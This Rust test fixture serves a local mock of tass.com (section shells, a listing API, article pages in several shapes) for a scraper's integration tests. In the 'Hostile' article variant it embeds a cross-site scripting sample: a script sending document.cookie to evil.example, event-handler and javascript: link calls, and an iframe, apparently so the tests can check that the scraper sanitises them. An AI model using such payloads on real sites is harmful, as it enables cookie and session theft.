//! A faithful local copy of tass.com, served on 127.0.0.1 for the integration tests.
//!
//! It reproduces what public scrapers of tass.com record about the real site:
//! - section pages `/{slug}` are AngularJS shells whose only useful content is
//!   `<div class="container"><section class="section-page" ng-init="sectionId = 4954; …">`
//!   (where tass.com keeps it; no `#news-list`);
//! - the browser then calls `POST /userApi/categoryNewsList` with
//!   `{"sectionId": 4954, "limit": 20, "type": "all"}` and gets
//!   `{"newsList": [{"id", "title", "lead", "link" (relative), "date" (Unix seconds)}], "lastTime"}`;
//! - article pages `/{slug}/{id}` carry `h1.news-header__title`, `.news-header__lead`,
//!   `.text-content .text-block`, `.news-media img` (relative src), `a.tags__item`,
//!   `<dateformat time="UNIX" mode="abs">` in `.news-header__date`, a JSON-LD `NewsArticle` and
//!   `og:` tags — or, in some copies, only the printed dateline (`June 13, 14:53 UTC+3`);
//! - bare clients get 403: a browser-like User-Agent and an Accept header are required.
//!
//! The site is a mutable model (`SiteModel`) so tests can add, drop and change articles
//! between scrapes; every request is logged for assertions about what was fetched.

use std::collections::HashMap;
use std::net::SocketAddr;
use std::sync::{Arc, Mutex};

use chrono::{DateTime, FixedOffset, TimeZone};
use warp::http::{Response, StatusCode};
use warp::Filter;

/// The nine TASS English sections: slug, numeric id, title.
pub const SECTIONS: [(&str, u32, &str); 9] = [
    ("politics", 4954, "Russian Politics & Diplomacy"),
    ("world", 4844, "World"),
    ("economy", 4845, "Business & Economy"),
    ("defense", 4953, "Military & Defense"),
    ("emergencies", 4992, "Emergencies"),
    ("science", 4957, "Science & Space"),
    ("society", 4956, "Society & Culture"),
    ("sports", 4869, "Sport"),
    ("pressreview", 4981, "Press Review"),
];

/// How an article page is shaped.
#[derive(Debug, Clone, PartialEq)]
pub enum Page {
    /// Everything: JSON-LD, `<dateformat>`, og tags, header, media, tags.
    Full,
    /// Only the printed dateline in `.news-header__date` (no JSON-LD, no `<dateformat>`).
    PrintedDateline(String),
    /// The page lost its header: no `h1`, no lead, no dates; the listing must fill in.
    Headless,
    /// The body tries scripts, event handlers and `javascript:` links.
    Hostile,
    /// Listed, but the page answers 404.
    Missing,
}

#[derive(Debug, Clone)]
pub struct Article {
    pub section: &'static str,
    pub id: u64,
    pub title: String,
    pub lead: String,
    /// The true publication instant, in Moscow time as TASS prints it.
    pub published: DateTime<FixedOffset>,
    pub page: Page,
    /// Whether the listing API gives the article's `date` field.
    pub listed_date: bool,
    pub tags: Vec<String>,
}

impl Article {
    pub fn path(&self) -> String {
        format!("/{}/{}", self.section, self.id)
    }
}

/// The site's content: what is listed, and the article pages.
#[derive(Debug, Clone, Default)]
pub struct SiteModel {
    pub articles: Vec<Article>,
    /// Article ids the listing currently omits (they dropped off the first page).
    pub unlisted: Vec<u64>,
    /// Appended to every link in the listing, such as `?utm_source=telegram#comments`: the
    /// same article reached through tracking links.
    pub link_suffix: String,
    /// Articles listed in another section too (id, section slug), with their own link: an
    /// article that moved or is cross-posted.
    pub cross_listed: Vec<(u64, &'static str)>,
    /// Time every answer is held back, to widen the window in which a test can kill a scrape.
    pub delay: Option<std::time::Duration>,
}

pub fn moscow() -> FixedOffset {
    FixedOffset::east_opt(3 * 3600).expect("valid offset")
}

impl SiteModel {
    /// Three or four articles per section covering every page shape, dated in late
    /// November 2026 (before the real clock of these tests), plus one printed
    /// `December 31, 23:41 UTC+3` dateline with no listing date in `politics`, for year
    /// inference runs in January 2027.
    pub fn tass() -> SiteModel {
        let mut articles = Vec::new();
        let base = moscow().with_ymd_and_hms(2026, 11, 27, 18, 5, 17).unwrap();
        let mut id = 1_000_100;
        for (n, (slug, _, title)) in SECTIONS.iter().enumerate() {
            for k in 0..3u32 {
                id += 1;
                let published =
                    base - chrono::Duration::minutes(i64::from(n as u32 * 41 + k * 173));
                let page = match (n + k as usize) % 5 {
                    0 => Page::Full,
                    1 => Page::PrintedDateline(printed(published)),
                    2 if k == 1 => Page::Hostile,
                    3 if k == 2 => Page::Headless,
                    _ => Page::Full,
                };
                articles.push(Article {
                    section: slug,
                    id,
                    title: format!("{title}: story {k} — Lavrov & \"partners\" <agree> on {id}"),
                    lead: format!("Lead of story {k} in {slug}, with an ampersand & a quote \""),
                    published,
                    page,
                    listed_date: true,
                    tags: vec![format!("{title} tag"), "Russia".to_string()],
                });
            }
        }
        // A listed article whose page answers 404.
        articles.push(Article {
            section: "world",
            id: 1_000_900,
            title: "Article that vanished from the site".into(),
            lead: "Only the listing knows it".into(),
            published: moscow().with_ymd_and_hms(2026, 11, 27, 20, 1, 2).unwrap(),
            page: Page::Missing,
            listed_date: true,
            tags: vec![],
        });
        SiteModel {
            articles,
            ..SiteModel::default()
        }
    }

    /// The New Year's Eve article: printed dateline only, no date in the listing.
    pub fn new_years_eve() -> Article {
        Article {
            section: "politics",
            id: 1_000_999,
            title: "Putin's New Year address".into(),
            lead: "The address aired at 23:41 Moscow time".into(),
            published: moscow().with_ymd_and_hms(2026, 12, 31, 23, 41, 0).unwrap(),
            page: Page::PrintedDateline("December 31, 23:41 UTC+3".into()),
            listed_date: false,
            tags: vec![],
        }
    }

    pub fn in_section(&self, slug: &str) -> Vec<&Article> {
        self.articles.iter().filter(|a| a.section == slug).collect()
    }
}

/// `June 13, 14:53 UTC+3`, as the browser draws TASS's dateline.
pub fn printed(d: DateTime<FixedOffset>) -> String {
    format!("{} UTC+3", d.format("%B %-d, %H:%M"))
}

/// One request as the origin saw it.
#[derive(Debug, Clone, PartialEq)]
pub struct Seen {
    pub method: String,
    pub path: String,
    pub status: u16,
}

/// How busy the origin has been: for tests of politeness across several instances.
#[derive(Debug, Default)]
pub struct Load {
    /// Requests being answered now.
    active: std::sync::atomic::AtomicUsize,
    /// The most requests ever answered at once.
    peak: std::sync::atomic::AtomicUsize,
    /// Every listing call: when it arrived, and the `sectionId` it asked for.
    listings: Mutex<Vec<(std::time::Instant, u64)>>,
}

/// One request being answered, in `Load::active` until dropped.
struct Active(Arc<Load>);

impl Active {
    fn enter(load: Arc<Load>) -> Active {
        use std::sync::atomic::Ordering::SeqCst;
        let now = load.active.fetch_add(1, SeqCst) + 1;
        load.peak.fetch_max(now, SeqCst);
        Active(load)
    }
}

impl Drop for Active {
    fn drop(&mut self) {
        self.0
            .active
            .fetch_sub(1, std::sync::atomic::Ordering::SeqCst);
    }
}

/// A running origin.
pub struct Origin {
    pub addr: SocketAddr,
    pub site: Arc<Mutex<SiteModel>>,
    pub log: Arc<Mutex<Vec<Seen>>>,
    pub load: Arc<Load>,
    shutdown: Option<tokio::sync::oneshot::Sender<()>>,
    thread: Option<std::thread::JoinHandle<()>>,
}

impl Origin {
    pub fn start(model: SiteModel) -> Origin {
        let site = Arc::new(Mutex::new(model));
        let log = Arc::new(Mutex::new(Vec::new()));
        let (addr_tx, addr_rx) = std::sync::mpsc::channel();
        let (stop_tx, stop_rx) = tokio::sync::oneshot::channel::<()>();
        let load = Arc::new(Load::default());
        let (site2, log2, load2) = (site.clone(), log.clone(), load.clone());
        let thread = std::thread::spawn(move || {
            let runtime = tokio::runtime::Builder::new_current_thread()
                .enable_all()
                .build()
                .unwrap();
            runtime.block_on(async move {
                let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
                addr_tx.send(listener.local_addr().unwrap()).unwrap();
                warp::serve(routes(site2, log2, load2))
                    .incoming(listener)
                    .graceful(async move {
                        let _ = stop_rx.await;
                    })
                    .run()
                    .await;
            });
        });
        let addr = addr_rx.recv().expect("origin started");
        Origin {
            addr,
            site,
            log,
            load,
            shutdown: Some(stop_tx),
            thread: Some(thread),
        }
    }

    pub fn base_url(&self) -> String {
        format!("http://{}", self.addr)
    }

    pub fn requests(&self) -> Vec<Seen> {
        self.log.lock().unwrap().clone()
    }

    pub fn clear_log(&self) {
        self.log.lock().unwrap().clear();
    }

    pub fn model(&self) -> SiteModel {
        self.site.lock().unwrap().clone()
    }

    /// The most requests the origin (one host) ever answered at once.
    pub fn peak_concurrency(&self) -> usize {
        self.load.peak.load(std::sync::atomic::Ordering::SeqCst)
    }

    /// Every listing call so far: when, and for which `sectionId`.
    pub fn listing_calls(&self) -> Vec<(std::time::Instant, u64)> {
        self.load.listings.lock().unwrap().clone()
    }
}

impl Drop for Origin {
    fn drop(&mut self) {
        if let Some(tx) = self.shutdown.take() {
            let _ = tx.send(());
        }
        if let Some(t) = self.thread.take() {
            let _ = t.join();
        }
    }
}

type Shared = (Arc<Mutex<SiteModel>>, Arc<Mutex<Vec<Seen>>>, Arc<Load>);

fn routes(
    site: Arc<Mutex<SiteModel>>,
    log: Arc<Mutex<Vec<Seen>>>,
    load: Arc<Load>,
) -> impl Filter<Extract = (Response<String>,), Error = warp::Rejection> + Clone {
    let shared: Shared = (site, log, load);
    warp::method()
        .and(warp::path::full())
        .and(warp::header::headers_cloned())
        .and(warp::body::bytes())
        .and_then(
            move |method: warp::http::Method,
                  path: warp::path::FullPath,
                  headers: warp::http::HeaderMap,
                  body: bytes::Bytes| {
                let (site, log, load) = shared.clone();
                async move {
                    // Counted until the request ends, by its answer or by the client going
                    // away (hyper then drops this future: a killed client's request ends there).
                    let _active = Active::enter(load.clone());
                    if path.as_str().ends_with("/categoryNewsList") {
                        let section = serde_json::from_slice::<serde_json::Value>(&body)
                            .ok()
                            .and_then(|v| v["sectionId"].as_u64())
                            .unwrap_or(0);
                        load.listings
                            .lock()
                            .unwrap()
                            .push((std::time::Instant::now(), section));
                    }
                    let (response, delay) = {
                        let site = site.lock().unwrap();
                        let response =
                            answer(&site, method.as_str(), path.as_str(), &headers, &body);
                        (response, site.delay)
                    };
                    if let Some(delay) = delay {
                        tokio::time::sleep(delay).await;
                    }
                    log.lock().unwrap().push(Seen {
                        method: method.to_string(),
                        path: path.as_str().to_string(),
                        status: response.status().as_u16(),
                    });
                    Ok::<_, warp::Rejection>(response)
                }
            },
        )
}

fn reply(status: StatusCode, content_type: &str, body: String) -> Response<String> {
    Response::builder()
        .status(status)
        .header("content-type", content_type)
        .body(body)
        .unwrap()
}

fn answer(
    site: &SiteModel,
    method: &str,
    path: &str,
    headers: &warp::http::HeaderMap,
    body: &[u8],
) -> Response<String> {
    let ua = headers
        .get("user-agent")
        .and_then(|v| v.to_str().ok())
        .unwrap_or("");
    if !ua.contains("Mozilla/5.0") || !headers.contains_key("accept") {
        return reply(
            StatusCode::FORBIDDEN,
            "text/html",
            "<h1>403 Forbidden</h1>".into(),
        );
    }
    let parts: Vec<&str> = path.trim_matches('/').split('/').collect();
    match (method, parts.as_slice()) {
        ("POST", ["userApi", "categoryNewsList"]) => news_list(site, body),
        ("GET", [slug]) if SECTIONS.iter().any(|s| s.0 == *slug) => reply(
            StatusCode::OK,
            "text/html; charset=utf-8",
            section_shell(slug),
        ),
        ("GET", [slug, id]) => match site
            .articles
            .iter()
            .find(|a| a.section == *slug && a.id.to_string() == *id)
        {
            Some(a) if a.page != Page::Missing => {
                reply(StatusCode::OK, "text/html; charset=utf-8", article_page(a))
            }
            _ => reply(
                StatusCode::NOT_FOUND,
                "text/html",
                "<h1>404 Not Found</h1>".into(),
            ),
        },
        _ => reply(
            StatusCode::NOT_FOUND,
            "text/html",
            "<h1>404 Not Found</h1>".into(),
        ),
    }
}

fn section_shell(slug: &str) -> String {
    let (_, id, title) = SECTIONS.iter().find(|s| s.0 == slug).unwrap();
    format!(
        r#"<!DOCTYPE html><html ng-app="tassApp"><head><meta charset="utf-8"><title>{title} - TASS</title>
<script src="/newtass/javascript/angular.min.js"></script></head>
<body><div class="container" ng-init="counterTime = 520"></div>
<div class="container"><section class="section-page" ng-init="sectionId = {id}; excludeNewsIds = '';">
<div class="news-list" ng-repeat="news in newsList"><a ng-href="{{{{news.link}}}}">{{{{news.title}}}}</a></div>
</section></div></body></html>"#
    )
}

fn news_list(site: &SiteModel, body: &[u8]) -> Response<String> {
    let request: serde_json::Value = match serde_json::from_slice(body) {
        Ok(v) => v,
        Err(_) => {
            return reply(
                StatusCode::BAD_REQUEST,
                "application/json",
                r#"{"error":"bad json"}"#.into(),
            )
        }
    };
    let section_id = request["sectionId"].as_u64().unwrap_or(0) as u32;
    let limit = request["limit"].as_u64().unwrap_or(20) as usize;
    // The next page: items published before the previous page's `lastTime`.
    let before = request["lastTime"].as_i64().unwrap_or(i64::MAX);
    let Some((slug, _, _)) = SECTIONS.iter().find(|s| s.1 == section_id) else {
        return reply(
            StatusCode::OK,
            "application/json",
            r#"{"newsList":[],"lastTime":0}"#.into(),
        );
    };
    let cross_listed = |a: &Article| site.cross_listed.contains(&(a.id, *slug));
    let mut listed: Vec<&Article> = site
        .articles
        .iter()
        .filter(|a| {
            (a.section == *slug || cross_listed(a))
                && !site.unlisted.contains(&a.id)
                && a.published.timestamp() < before
        })
        .collect();
    listed.sort_by_key(|a| std::cmp::Reverse(a.published));
    listed.truncate(limit);
    let items: Vec<serde_json::Value> = listed
        .iter()
        .map(|a| {
            let mut item = serde_json::json!({
                "id": a.id,
                "title": a.title,
                "lead": a.lead,
                "link": format!("{}{}", a.path(), site.link_suffix),
                "type": "news",
            });
            if a.listed_date {
                item["date"] = serde_json::json!(a.published.timestamp());
            }
            item
        })
        .collect();
    let last_time = listed.last().map(|a| a.published.timestamp()).unwrap_or(0);
    let body = serde_json::json!({ "newsList": items, "lastTime": last_time });
    reply(
        StatusCode::OK,
        "application/json;charset=UTF-8",
        body.to_string(),
    )
}

fn escape(text: &str) -> String {
    html_escape::encode_safe(text).into_owned()
}

fn article_page(a: &Article) -> String {
    let (title, lead) = (escape(&a.title), escape(&a.lead));
    let json_ld = serde_json::json!({
        "@context": "https://schema.org",
        "@type": "NewsArticle",
        "mainEntityOfPage": {"@type": "WebPage", "@id": format!("https://tass.com{}", a.path())},
        "headline": a.title,
        "image": [format!("https://tass.com/img/{}.jpg", a.id)],
        "datePublished": a.published.to_rfc3339(),
        "dateModified": a.published.to_rfc3339(),
        "author": {"@type": "Organization", "name": "TASS"},
        "publisher": {"@type": "Organization", "name": "TASS"},
    });
    let (head_extra, date_html) = match &a.page {
        Page::Full | Page::Hostile => (
            format!(r#"<script type="application/ld+json">{json_ld}</script>"#),
            format!(
                r#"<span class="news-header__date-date"><dateformat time="{}" mode="abs"></dateformat></span>"#,
                a.published.timestamp()
            ),
        ),
        Page::PrintedDateline(text) => (
            String::new(),
            format!(r#"<span class="news-header__date-date">{text}</span>"#),
        ),
        Page::Headless | Page::Missing => (String::new(), String::new()),
    };
    let header = if a.page == Page::Headless {
        String::new()
    } else {
        format!(
            r#"<div class="news-header"><div class="news-header__top"><div class="news-header__date" ng-cloak="ng-cloak">{date_html}</div></div>
<h1 class="news-header__title">{title}
</h1><div class="news-header__lead">{lead}</div></div>"#
        )
    };
    let hostile = if a.page == Page::Hostile {
        r#"<script>document.location='https://evil.example/'+document.cookie</script>
<p onclick="steal()" onmouseover="steal()">Click <a href="javascript:steal()">here</a> <img src="/x.png" onerror="steal()"></p>
<iframe src="https://evil.example/frame"></iframe><style>body{display:none}</style>"#
    } else {
        ""
    };
    let tags: String = a
        .tags
        .iter()
        .map(|t| {
            format!(
                r#"<a class="tags__item" href="/tag/{}">{}</a>"#,
                t.to_lowercase().replace(' ', "-"),
                escape(t)
            )
        })
        .collect();
    format!(
        r#"<!DOCTYPE html>
<html lang="en" ng-app="tassApp"><head><meta charset="utf-8">
<title>{title} - TASS</title>
<meta property="og:type" content="article">
<meta property="og:title" content="{title}">
<meta property="og:description" content="{lead}">
<meta property="og:image" content="https://tass.com/img/blocks/common/tass_logo_share_en.png">
{head_extra}
</head><body>
<div class="header-newsblock"><div class="header-newsblock__date"><dateformat time="1" mode="print"></dateformat></div></div>
<div class="news" data-io-article-url="https://tass.com{path}"><div class="column">
{header}
<div class="news-media"><img src="/img/{id}.jpg" alt=""></div>
<div class="text-content"><div class="text-block"><p>MOSCOW, /TASS/. Body of {id} with a <a href="/world/1">relative link</a> &amp; an ampersand.</p>
{hostile}
<p>Second paragraph.</p></div><div class="text-block"></div></div>
<div class="tags"><div class="tags__title">Tags</div><div class="tags__list">{tags}</div></div>
</div></div></body></html>"#,
        path = a.path(),
        id = a.id,
    )
}

/// Keeps `HashMap` imported for helpers that index articles by path.
pub fn by_path(model: &SiteModel) -> HashMap<String, Article> {
    model
        .articles
        .iter()
        .map(|a| (a.path(), a.clone()))
        .collect()
}
